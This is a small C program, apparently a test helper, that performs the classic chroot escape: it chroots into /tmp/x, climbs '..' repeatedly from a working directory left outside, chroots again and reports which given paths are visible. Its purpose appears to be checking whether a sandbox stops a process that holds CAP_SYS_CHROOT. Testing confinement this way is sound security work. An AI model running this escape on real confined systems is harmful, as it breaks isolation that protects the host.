/* SPDX-License-Identifier: MIT */
/*
 * chroot_escape PATH...: the classic climb out of a chroot, as a service
 * holding CAP_SYS_CHROOT would try it: chroot into a new directory while
 * the cwd stays outside it, walk ".." far up, chroot there. Then, for
 * each PATH, prints "SEES PATH" or "NOT PATH". Exit 0 when the climb ran
 * (whatever it reached), 2 when chroot itself was refused.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat st;

	if (chdir("/tmp") < 0 || (mkdir("x", 0700) < 0 && stat("x", &st) < 0)) {
		perror("mkdir /tmp/x");
		return 2;
	}
	if (chroot("x") < 0) {
		perror("chroot x");
		return 2;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("chroot .");
		return 2;
	}
	for (int i = 1; i < argc; i++)
		printf("%s %s\n", stat(argv[i], &st) == 0 ? "SEES" : "NOT", argv[i]);
	printf("CLIMBED\n");
	return 0;
}
